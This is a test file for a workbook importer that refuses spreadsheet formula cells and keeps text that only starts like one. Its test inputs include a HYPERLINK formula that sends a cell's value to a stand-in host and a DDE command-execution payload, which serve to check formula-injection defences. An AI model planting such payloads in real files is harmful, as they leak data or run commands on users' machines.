"""A formula is never imported: the documenter is asked to type the value itself. Text
that merely starts like one (+82..., -- note, @handle, or '= marked as text) is kept."""

from __future__ import annotations

import datetime as dt

import pytest

from irum.archive.models import Case, Event, Person
from irum.exchange.importer import workbook_import
from irum.exchange.tests.workbooks import sample, where, write_workbook


def _import_with(actor, tmp_path, form, sheet, index, column, value):
    book = sample()
    book[sheet][index][column] = value
    return workbook_import(actor=actor, path=write_workbook(tmp_path, book, form=form))


@pytest.mark.parametrize("form", ["folder", "xlsx"])
@pytest.mark.parametrize(
    "formula",
    ["=1+1", '=HYPERLINK("http://example.invalid/?leak="&A1,"open")', "=cmd|' /C calc'!A0"],
)
def test_it_refuses_a_formula_cell(gazetteer, actor, tmp_path, form, formula):
    result = _import_with(actor, tmp_path, form, "events", 0, "description_public", formula)

    assert where(result.problems) == [("events", 2, "description_public", formula)]
    assert result.problems[0].reason.startswith("is a spreadsheet formula")
    assert Case.objects.count() == 0


def test_it_refuses_a_formula_behind_leading_spaces(gazetteer, actor, tmp_path):
    result = _import_with(actor, tmp_path, "folder", "cases", 1, "title", "  =1+1")

    assert where(result.problems) == [("cases", 3, "title", "=1+1")]


@pytest.mark.parametrize("form", ["folder", "xlsx"])
def test_it_refuses_a_formula_in_a_ref_column(gazetteer, actor, tmp_path, form):
    result = _import_with(actor, tmp_path, form, "events", 8, "person_ref", "=A1")

    # Said once, as a formula: the cell is not empty, so "is required" would mislead.
    assert where(result.problems) == [("events", 10, "person_ref", "=A1")]
    assert Case.objects.count() == 0


def test_it_keeps_a_value_marked_as_text_with_an_apostrophe(gazetteer, actor, tmp_path):
    result = _import_with(actor, tmp_path, "folder", "cases", 0, "title", "'=1+1")

    assert result.problems == []
    assert Case.objects.get(ref="C-001").title == "=1+1"


@pytest.mark.parametrize("form", ["folder", "xlsx"])
@pytest.mark.parametrize("value", ["+82 10 1234 5678", "-- no record", "@miran_k", "%TEMP%"])
def test_it_keeps_text_that_only_starts_like_a_formula(gazetteer, actor, tmp_path, form, value):
    result = _import_with(actor, tmp_path, form, "persons", 0, "aliases", value)

    assert result.problems == []
    assert Person.objects.get(ref="P-001").aliases == value


def test_it_reads_numbers_and_dates_typed_into_xlsx_cells(gazetteer, actor, tmp_path):
    book = sample()
    book["persons"][0]["birth_year"] = 1990
    book["persons"][1]["birth_year"] = 1962.0
    book["events"][0]["seq"] = 1
    book["events"][9]["date"] = dt.datetime(2015, 11, 3)
    book["events"][12]["date"] = dt.date(2019, 5, 1)

    result = workbook_import(actor=actor, path=write_workbook(tmp_path, book, form="xlsx"))

    assert result.problems == []
    assert Person.objects.get(ref="P-002").birth_year == 1962
    assert Event.objects.get(person__ref="P-003", kind="arrest").date == "2015-11-03"
    assert Event.objects.get(person__ref="P-004", kind="abduction").date == "2019-05-01"
